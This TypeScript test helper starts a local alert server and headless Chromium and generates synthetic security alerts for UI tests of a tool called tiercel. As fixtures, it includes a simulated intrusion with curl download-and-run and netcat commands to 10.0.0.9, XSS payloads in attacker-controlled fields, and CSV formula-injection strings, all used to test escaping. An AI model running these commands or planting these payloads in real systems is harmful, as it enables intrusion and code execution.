/**
 * For the browser tests and the UI benchmark: a real `tiercel serve` with its
 * own data directory and generated API token, alerts posted through the real
 * API (so the correlator builds the incidents), and Debian's Chromium driven
 * by playwright-core with a fresh profile. Loopback only.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BrowserContext, chromium } from 'playwright-core';
import { ROOT } from '../helpers/cli.js';
import { type ServeProcess, startServe } from '../server/helpers.js';

export const CHROMIUM = process.env['TIERCEL_CHROMIUM'] ?? '/usr/bin/chromium';
export const UI_INDEX = join(ROOT, 'dist', 'ui', 'index.html');
export const ARTIFACTS = join(ROOT, 'test-artifacts', 'ui');

/** Why the browser tests cannot run here, or false. */
export function browserSkipReason(): string | false {
  if (!existsSync(CHROMIUM)) return `no Chromium at ${CHROMIUM} (Debian package chromium, installed by .ci/run)`;
  if (!existsSync(join(ROOT, 'dist', 'cli'))) return 'dist/ is not built (npm run build)';
  if (!existsSync(UI_INDEX)) return 'the web UI is not built (npm run build:ui)';
  return false;
}

/** The flags this machine needs: without the background-networking ones Chromium's connections are refused. */
const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
  '--disable-component-update', '--disable-sync'];

export interface Browser {
  readonly context: BrowserContext;
  close(): Promise<void>;
}

export async function launchBrowser(): Promise<Browser> {
  const profile = mkdtempSync(join(tmpdir(), 'tiercel-chromium-'));
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: CHROMIUM, headless: true, args: ARGS, acceptDownloads: true, viewport: { width: 1400, height: 1000 },
  });
  return {
    context,
    async close() {
      await context.close().catch(() => undefined);
      rmSync(profile, { recursive: true, force: true });
    },
  };
}

export interface UiServer {
  readonly serve: ServeProcess;
  readonly url: string;
  readonly token: string;
  readonly dataDir: string;
  post(alerts: readonly Record<string, unknown>[]): Promise<void>;
  stop(): Promise<void>;
}

/** `tiercel serve` with incidents on, a fresh data dir and its generated token (read, write, ingest). */
export async function startUiServe(extraArgs: readonly string[] = []): Promise<UiServer> {
  const dataDir = mkdtempSync(join(tmpdir(), 'tiercel-ui-data-'));
  const serve = await startServe(['--data-dir', dataDir, ...extraArgs]);
  const token = readFileSync(join(dataDir, 'api-token'), 'utf8').trim();
  return {
    serve, url: serve.url, token, dataDir,
    async post(alerts) {
      for (let i = 0; i < alerts.length; i += 5000) {
        const res = await fetch(`${serve.url}/api/v1/alerts`, {
          method: 'POST',
          headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
          body: JSON.stringify(alerts.slice(i, i + 5000)),
        });
        const text = await res.text();
        if (res.status !== 200) throw new Error(`POST /api/v1/alerts: ${res.status} ${text}`);
      }
    },
    async stop() {
      await serve.stop();
      rmSync(dataDir, { recursive: true, force: true });
    },
  };
}

export function iso(ns: bigint): string {
  const ms = ns / 1_000_000n;
  return `${new Date(Number(ms)).toISOString().slice(0, -1)}${(ns % 1_000_000n).toString().padStart(6, '0')}Z`;
}

/** Markup and script in every attacker-controlled place; any of it running sets window.__pwned or opens a dialog. */
export const EVIL = {
  pod: '<img src=x onerror="window.__pwned=1">',
  namespace: 'evil',
  rule: '<svg onload="window.__pwned=3">Shell</svg>',
  cmdline: 'sh -c "<img src=x onerror=alert(document.domain)>"',
  output: '<script>window.__pwned=2</script><img src=x onerror="window.__pwned=4">',
  user: '<b onmouseover="window.__pwned=5">mallory</b>',
};

export interface Demo {
  readonly alerts: Record<string, unknown>[];
  readonly execUser: string;
  readonly execPod: string;
  /** A literal search text with every LIKE/regex special character, matching exactly one alert. */
  readonly special: string;
}

/**
 * A small cluster's last hour: an exec session (the audit alert, then a shell,
 * a download and a run, with pids forming a tree and the exec's audit ID in
 * the processes' correlation keys), background alerts over several rules,
 * namespaces, nodes and priorities, and the hostile alerts.
 */
export function demoAlerts(now = BigInt(Date.now()) * 1_000_000n): Demo {
  const out: Record<string, unknown>[] = [];
  const sec = 1_000_000_000n;
  const execUser = 'alice';
  const execPod = `web-${randomBytes(2).toString('hex')}`;
  const ns = 'shop';
  const podUid = randomUUID();
  const containerId = randomBytes(6).toString('hex');
  const auditId = randomUUID();
  const t0 = now - 240n * sec;
  out.push({
    id: randomUUID(), time: iso(t0), rule: 'Attach/Exec Pod', priority: 'Notice', source: 'k8s_audit', tags: ['k8s', 'mitre_execution'],
    output: `Attach/Exec to pod (user=${execUser} pod=${execPod} ns=${ns} action=exec command=sh)`,
    output_fields: { 'ka.user.name': execUser, 'ka.target.namespace': ns, 'ka.target.name': execPod, 'ka.uri.param[command]': 'sh', 'ka.auditid': auditId },
    hostname: 'analyzer-0',
    correlation: { auditId, user: execUser, verb: 'create', resource: 'pods', subresource: 'exec', namespace: ns, name: execPod },
  });
  const session = `${containerId}:4100:${t0}`;
  const procs: [string, string, number, number, string, string][] = [
    ['Terminal shell in container', 'Notice', 4100, 4000, 'sh', 'containerd-shim'],
    ['File Transfer Tool Launched in Container', 'Warning', 4117, 4100, 'curl -so /tmp/x http://10.0.0.9/x', 'sh'],
    ['Drop and execute new binary in container', 'Critical', 4123, 4100, '/tmp/x --mine', 'sh'],
    ['Network Tool Launched in Container', 'Warning', 4131, 4123, 'nc 10.0.0.9 4444', '/tmp/x --mine'],
  ];
  procs.forEach(([rule, priority, pid, ppid, cmdline, pcmdline], k) => {
    const t = t0 + BigInt(k + 1) * sec;
    out.push({
      id: randomUUID(), time: iso(t), rule, priority, source: 'syscall', tags: ['container', 'process', k === 2 ? 'mitre_persistence' : 'mitre_execution'],
      output: `${rule} (user=root proc=${cmdline} pid=${pid} container=${containerId} pod=${execPod} ns=${ns})`,
      output_fields: {
        'proc.pid': pid, 'proc.ppid': ppid, 'proc.cmdline': cmdline, 'proc.pcmdline': pcmdline, 'proc.name': cmdline.split(' ')[0]!,
        'container.id': containerId, 'k8s.pod.name': execPod, 'k8s.ns.name': ns, 'user.name': 'root',
      },
      hostname: 'node-1',
      correlation: { auditId, execSession: session, execCommand: 'sh', containerId, podUid, namespace: ns, pod: execPod, pid: String(pid) },
    });
  });
  // A storm of the same drop-and-execute alert.
  for (let k = 0; k < 6; k++) {
    out.push({
      id: randomUUID(), time: iso(t0 + 6n * sec + BigInt(k) * 100_000_000n), rule: 'Drop and execute new binary in container', priority: 'Critical',
      source: 'syscall', tags: ['container', 'mitre_persistence'], output: `Drop and execute new binary in container (proc=/tmp/x --mine pid=4123 pod=${execPod})`,
      output_fields: { 'proc.pid': 4123, 'proc.ppid': 4100, 'proc.cmdline': '/tmp/x --mine', 'container.id': containerId, 'k8s.pod.name': execPod, 'k8s.ns.name': ns },
      hostname: 'node-1',
      correlation: { auditId, execSession: session, execCommand: 'sh', containerId, podUid, namespace: ns, pod: execPod, pid: '4123' },
    });
  }
  // Background: several rules, namespaces, nodes and priorities over the last hour.
  const rules: [string, string][] = [['Read sensitive file untrusted', 'Warning'], ['Write below etc', 'Error'],
    ['Contact K8S API Server From Container', 'Notice'], ['Clear Log Activities', 'Warning'], ['Debug rule', 'Debug'], ['Outbound connection', 'Informational']];
  for (let k = 0; k < 60; k++) {
    const [rule, priority] = rules[k % rules.length]!;
    const t = now - BigInt(3500 - k * 55) * sec;
    const bgNs = ['payments', 'kube-system', 'monitoring'][k % 3]!;
    const bgPod = `pod-${k % 7}`;
    out.push({
      id: randomUUID(), time: iso(t), rule, priority, source: 'syscall', tags: ['host', k % 2 ? 'filesystem' : 'network'],
      output: `${rule} (file=/etc/conf-${k}.d pod=${bgPod} ns=${bgNs})`,
      output_fields: { 'proc.pid': 9000 + k, 'proc.cmdline': `worker --n ${k}`, 'k8s.pod.name': bgPod, 'k8s.ns.name': bgNs, 'fd.name': `/etc/conf-${k}.d` },
      hostname: `node-${(k % 3) + 2}`,
      correlation: { containerId: `bg${k % 7}`, namespace: bgNs, pod: bgPod, pid: String(9000 + k) },
    });
  }
  const special = 'a-b.c_100%';
  out.push({
    id: randomUUID(), time: iso(now - 100n * sec), rule: 'Read sensitive file untrusted', priority: 'Warning', source: 'syscall', tags: ['filesystem'],
    output: `Read sensitive file untrusted (file=/srv/${special}/key pod=pod-1 ns=payments)`,
    output_fields: { 'fd.name': `/srv/${special}/key`, 'k8s.pod.name': 'pod-1', 'k8s.ns.name': 'payments' },
    hostname: 'node-2', correlation: { containerId: 'bg1', namespace: 'payments', pod: 'pod-1' },
  });
  // Hostile text in the pod name, namespace-scoped user, rule, output and command line.
  for (let k = 0; k < 3; k++) {
    out.push({
      id: randomUUID(), time: iso(now - BigInt(60 - k) * sec), rule: k === 0 ? EVIL.rule : 'Terminal shell in container', priority: 'Critical',
      source: 'syscall', tags: ['container', '<i>tag</i>'],
      output: `${EVIL.output} pod=${EVIL.pod} cmd=${EVIL.cmdline}`,
      output_fields: { 'proc.pid': 6600 + k, 'proc.ppid': 6600, 'proc.cmdline': EVIL.cmdline, 'k8s.pod.name': EVIL.pod, 'k8s.ns.name': EVIL.namespace, 'user.name': EVIL.user },
      hostname: 'node-<b>9</b>',
      correlation: { containerId: 'evil0', namespace: EVIL.namespace, pod: EVIL.pod, pid: String(6600 + k) },
    });
  }
  out.push({
    id: randomUUID(), time: iso(now - 30n * sec), rule: '=HYPERLINK("http://example.invalid","x")', priority: 'Warning', source: 'syscall',
    tags: ['csv'], output: '+cmd|\' /C calc\'!A0', output_fields: { 'k8s.ns.name': 'csv', 'k8s.pod.name': '@pod' }, hostname: '-node',
    correlation: { containerId: 'csv0', namespace: 'csv', pod: '@pod' },
  });
  return { alerts: out, execUser, execPod, special };
}
